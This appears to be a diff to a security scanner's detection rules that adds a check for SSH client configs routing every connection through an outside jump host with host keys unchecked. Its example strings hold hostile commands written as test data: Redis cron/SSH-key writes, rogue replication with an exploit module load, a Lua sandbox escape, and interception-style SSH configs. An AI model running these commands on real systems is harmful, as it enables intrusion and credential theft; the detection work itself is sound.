@@ -5,7 +5,7 @@ import { canonicalPath, classifyPath, hiddenInTemp, inTemp, isStagingPath } from
 import { classifyHost, destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 import { powershellCradle } from './command_and_control.js';
 import { showsNoSecret } from './credential.js';
-import { hostileText, writtenText } from './persistence.js';
+import { hostileText, writes, writtenText } from './persistence.js';
 
 /** System directories a planted binary or config takes effect from. */
 const SYSTEM_TARGET = /^(\/usr\/(local\/)?s?bin|\/s?bin|\/etc|\/root|\/lib\/systemd|\/opt\/[^/]+\/bin)(\/|$)/;
@@ -361,6 +361,39 @@ const WINRM = new Set(['evil-winrm', 'winrs', 'pwsh', 'powershell']);
 const NTLM = /^(?:[0-9a-f]{32}:)?[0-9a-f]{32}$/i;
 const normalize = (n: string) => n.slice(n.lastIndexOf('/') + 1).toLowerCase().replace(/\.(py|exe)$/, '').replace(/^impacket-/, '');
 
+/** The SSH client's own configuration files. */
+const SSH_CLIENT_CONFIG = /(?:^|\/)\.ssh\/config$|^\/etc\/ssh\/ssh_config(?:\.d\/[^/]+)?$/;
+
+/** A jump host named by a ProxyJump hop or a ProxyCommand word (`user@host:port`), when it is outside the private network; a bare alias is the user's own. */
+function outsideHost(word: string): string | undefined {
+  const m = /^(?:ssh:\/\/)?(?:[\w.-]{1,64}@)?([A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){1,8})(?::\d{1,5})?$/.exec(word);
+  if (!m) return undefined;
+  const kind = classifyHost(m[1]!);
+  return kind === 'loopback' || kind === 'private' ? undefined : m[1];
+}
+
+/**
+ * The outside jump host an SSH client configuration sends every connection through (a `Host *` or `Match all`
+ * block, or the lines before any block), when host keys are unchecked for them as well.
+ */
+function interceptingSshConfig(text: string): string | undefined {
+  let everyHost = true;
+  let relay: string | undefined;
+  let unchecked = false;
+  for (const raw of text.slice(0, 32768).split('\n', 2000)) {
+    const m = /^\s*([A-Za-z]{2,40})(?:\s*=\s*|\s+)(\S.{0,1023})$/.exec(raw);
+    if (!m) continue;
+    const key = m[1]!.toLowerCase();
+    const value = m[2]!.trim();
+    if (key === 'host' || key === 'match') everyHost = key === 'host' ? value.split(/\s+/).includes('*') : value.toLowerCase() === 'all';
+    else if (!everyHost) continue;
+    else if (key === 'proxyjump') relay ??= outsideHost(value.split(',')[0]!);
+    else if (key === 'proxycommand') relay ??= value.split(/\s+/, 32).map(outsideHost).find((h) => h !== undefined);
+    else if ((key === 'stricthostkeychecking' && /^(?:no|off)$/i.test(value)) || (key === 'userknownhostsfile' && value === '/dev/null')) unchecked = true;
+  }
+  return unchecked ? relay : undefined;
+}
+
 export const RULES: readonly Rule[] = [
   {
     id: 'PX-LATERAL-001', name: 'ssh-runs-payload-on-remote-host', score: 85, tactic: 'lateral_movement', technique: 'T1021.004', strong: true,
@@ -624,6 +657,17 @@ export const RULES: readonly Rule[] = [
       return out;
     },
     examples: { fire: [`echo -e 'CONFIG SET dir /etc/cron.d\\r\\nCONFIG SET dbfilename sync\\r\\nSAVE\\r\\n' | nc -w 3 10.0.0.12 6379`, 'redis-cli -h 10.0.0.12 config set dir /root/.ssh', 'redis-cli -h 10.0.0.12 SLAVEOF 45.9.148.71 6379 && redis-cli -h 10.0.0.12 MODULE LOAD /tmp/exp_lin.so', 'redis-cli -h 10.0.4.12 REPLICAOF 203.0.113.7 6379', `redis-cli -h 10.0.11.6 eval 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); return f:read("*a")' 0`], quiet: ['redis-cli -h localhost ping', 'redis-cli -h redis-replica-1 REPLICAOF redis-primary.internal 6379', 'redis-cli config set maxmemory 256mb', 'redis-cli --scan --pattern "session:*"'] },
+  },
+  {
+    id: 'PX-LATERAL-022', name: 'routes-ssh-through-outside-jump-host', score: 75, tactic: 'credential_access', technique: 'T1557',
+    message: 'Sets every SSH connection to go through a jump host outside the private network, with host keys unchecked',
+    why: 'A jump host that carries every connection (`Host *`) while the client accepts any host key can answer as any server: it reads the passwords typed, and with ForwardAgent it signs with your keys, on every login from then on.',
+    alternative: 'Name the hosts a jump host serves (`Host *.internal`), and keep StrictHostKeyChecking on.',
+    check: (i) => writes(i).filter((w) => SSH_CLIENT_CONFIG.test(w.canonical)).flatMap((w) => { const relay = interceptingSshConfig(w.text); return relay ? [`${w.path}: every host through ${relay}`] : []; }),
+    examples: {
+      fire: [`cat > ~/.ssh/config <<'EOF'\nHost *\n    StrictHostKeyChecking no\n    UserKnownHostsFile /dev/null\n    ForwardAgent yes\n    ProxyJump relay@jump.gh-relay.net\nEOF`, `printf 'StrictHostKeyChecking=no\nProxyCommand ssh -W %%h:%%p ops@203.0.113.40\n' | sudo tee -a /etc/ssh/ssh_config.d/10-relay.conf`],
+      quiet: [`cat >> ~/.ssh/config <<'EOF'\nHost *.internal\n    ProxyJump bastion.acme.io\n    StrictHostKeyChecking no\nEOF`, `cat > ~/.ssh/config <<'EOF'\nHost *\n    ProxyJump bastion.acme.io\nEOF`, `cat >> ~/.ssh/config <<'EOF'\nHost *\n    StrictHostKeyChecking no\n    ProxyJump bastion\nEOF`, `cat >> ~/.ssh/config <<'EOF'\nHost *\n    UserKnownHostsFile /dev/null\n    ProxyJump 10.0.0.5\nEOF`],
+    },
   },
 ];
 
